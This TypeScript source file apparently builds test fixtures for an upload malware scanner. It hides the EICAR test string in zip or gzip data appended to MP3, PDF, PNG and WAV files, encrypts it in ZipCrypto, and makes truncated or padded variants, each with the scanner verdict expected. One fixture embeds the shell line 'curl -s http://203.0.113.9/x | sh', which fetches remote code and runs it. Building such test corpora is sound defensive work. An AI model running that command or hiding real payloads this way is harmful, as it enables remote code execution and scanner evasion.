/**
 * The hostile corpus: variants of real clean files that hide content (zip or gzip with EICAR after an ID3 tag, after
 * a PDF's %%EOF or a PNG's IEND, as a WAV data chunk; ZipCrypto entries; a script after an ID3 header) or break the
 * structure (trailing bytes, truncation). Each records the verdict and reason the scanner must give.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';

import { eicarBytes } from '../../../core/scan/eicar';
import { corpusDir, run, type CorpusFile, type HostileFile } from './workspace';

/** Builds the hostile corpus from the clean one. */
export function buildHostileCorpus(clean: readonly CorpusFile[]): HostileFile[] {
  const cleanFiles = new Map(clean.map((file) => [file.name, file]));
  const source = (name: string) => readFileSync(cleanFiles.get(name)!.path);
  const dir = corpusDir('hostile');
  const out = (name: string) => path.join(dir, name);
  const files: HostileFile[] = [];
  const add = (file: Omit<HostileFile, 'path'>, bytes: Buffer) => {
    writeFileSync(out(file.name), bytes);
    files.push({ ...file, path: out(file.name) });
  };

  // EICAR padded so zip and gzip deflate it: the plain string then appears nowhere in the outer file.
  writeFileSync(out('eicar.com'), Buffer.concat([eicarBytes(), Buffer.alloc(4000, 0x20)]));
  run('zip', ['-q', '-9', 'eicar.zip', 'eicar.com'], dir);
  run('zip', ['-q', '-9', '-P', 'secret', 'encrypted.zip', 'eicar.com'], dir);
  const eicarZip = readFileSync(out('eicar.zip'));
  const encryptedZip = readFileSync(out('encrypted.zip'));
  const eicarGz = execFileSync('gzip', ['-9', '-c', out('eicar.com')]);
  const id3 = id3v2Tag(source('lame-id3v2.mp3'));

  add(
    {
      name: 'id3-then-zip.mp3',
      tool: 'lame ID3v2 tag + zip -9 EICAR',
      type: 'audio/mpeg',
      expected: 'INFECTED',
      description: 'zip with EICAR after an ID3 tag',
      reason: /Eicar-Test-Signature found in id3-then-zip\.mp3@\d+!eicar\.com/,
    },
    Buffer.concat([id3, eicarZip]),
  );
  add(
    {
      name: 'pdf-then-gzip.pdf',
      tool: 'gs pdf + gzip -9 EICAR',
      type: 'application/pdf',
      expected: 'INFECTED',
      description: 'gzip with EICAR after %%EOF',
      reason: /Eicar-Test-Signature found in pdf-then-gzip\.pdf@\d+!gunzip/,
    },
    Buffer.concat([source('gs.pdf'), eicarGz]),
  );
  add(
    {
      name: 'png-then-gzip.png',
      tool: 'convert png + gzip -9 EICAR',
      type: 'image/png',
      expected: 'INFECTED',
      description: 'gzip with EICAR after IEND',
      reason: /Eicar-Test-Signature found in png-then-gzip\.png@\d+!gunzip/,
    },
    Buffer.concat([source('gradient.png'), eicarGz]),
  );
  add(
    {
      name: 'gzip-data-chunk.wav',
      tool: 'sox wav, data chunk replaced by gzip -9 EICAR',
      type: 'audio/wav',
      expected: 'INFECTED',
      description: 'gzip as the WAV data chunk',
      reason: /Eicar-Test-Signature found in gzip-data-chunk\.wav@\d+!gunzip/,
    },
    wavWithData(source('tone-8k-mono.wav'), eicarGz),
  );
  add(
    {
      name: 'encrypted.zip',
      tool: 'zip -P',
      type: 'application/zip',
      expected: 'SUSPICIOUS',
      description: 'ZipCrypto entry holding EICAR',
      reason: /cannot inspect: encrypted entry encrypted\.zip!eicar\.com/,
    },
    encryptedZip,
  );
  add(
    {
      name: 'id3-then-encrypted-zip.mp3',
      tool: 'lame ID3v2 tag + zip -P',
      type: 'audio/mpeg',
      expected: 'SUSPICIOUS',
      description: 'encrypted zip after an ID3 tag',
      reason: /cannot inspect: encrypted entry id3-then-encrypted-zip\.mp3@\d+!eicar\.com/,
    },
    Buffer.concat([id3, encryptedZip]),
  );
  const header = Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, 0, 0, 0, 10]);
  add(
    {
      name: 'id3-then-script.mp3',
      tool: '20-byte ID3v2 header + shell script',
      type: 'audio/mpeg',
      expected: 'SUSPICIOUS',
      description: 'shell script after an ID3 header',
      reason: /no MPEG audio frame.*offset 20/,
    },
    Buffer.concat([header, Buffer.alloc(10), Buffer.from('#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n')]),
  );

  // Trailing bytes after, and truncation of, one real file of each allowed type.
  for (const name of [
    'tone-8k-mono.wav',
    'lame-id3v2.mp3',
    'lame-id3v1.mp3',
    'picture-tags.flac',
    'vorbis.ogg',
    'speech.opus',
    'opus.webm',
    'aac.m4a',
    'adts.aac',
    'gs.pdf',
    'text-chunks.png',
    'photo.jpg',
    'deflated.zip',
    'notes.txt.gz',
  ]) {
    const file = cleanFiles.get(name)!;
    const bytes = source(name);
    const ext = path.extname(name);
    const stem = path.basename(name, ext);
    add(
      {
        name: `${stem}-trailing${ext}`,
        tool: `${file.tool} + 64 appended bytes`,
        type: file.type,
        expected: 'SUSPICIOUS',
        description: 'trailing bytes',
        reason: new RegExp(`offset ${bytes.length}\\b`),
      },
      Buffer.concat([
        bytes,
        Buffer.from('#!/bin/sh\necho trailing payload after the real end of the file....\n'),
      ]),
    );
    add(
      {
        name: `${stem}-truncated${ext}`,
        tool: `${file.tool}, cut to 60%`,
        type: file.type,
        expected: 'SUSPICIOUS',
        description: 'truncated',
        reason: /truncated|ends|missing|no end|cut|EOF/i,
      },
      bytes.subarray(0, Math.floor(bytes.length * 0.6)),
    );
  }
  return files;
}

/** The ID3v2 tag at the start of an MP3 (header, frames and padding). */
function id3v2Tag(mp3: Buffer): Buffer {
  if (mp3.toString('latin1', 0, 3) !== 'ID3') throw new Error('no ID3v2 tag');
  const size =
    ((mp3[6]! & 0x7f) << 21) | ((mp3[7]! & 0x7f) << 14) | ((mp3[8]! & 0x7f) << 7) | (mp3[9]! & 0x7f);
  return mp3.subarray(0, 10 + size);
}

/** The WAV with its data chunk's content replaced by `data`, chunk and RIFF sizes updated. */
function wavWithData(wav: Buffer, data: Buffer): Buffer {
  let at = 12;
  while (at + 8 <= wav.length && wav.toString('latin1', at, at + 4) !== 'data') {
    const size = wav.readUInt32LE(at + 4);
    at += 8 + size + (size % 2);
  }
  if (at + 8 > wav.length) throw new Error('no data chunk');
  const header = Buffer.from(wav.subarray(0, at + 8));
  const padded = data.length % 2 === 1 ? Buffer.concat([data, Buffer.alloc(1)]) : data;
  header.writeUInt32LE(header.length - 8 + padded.length, 4);
  header.writeUInt32LE(data.length, at + 4);
  return Buffer.concat([header, padded]);
}
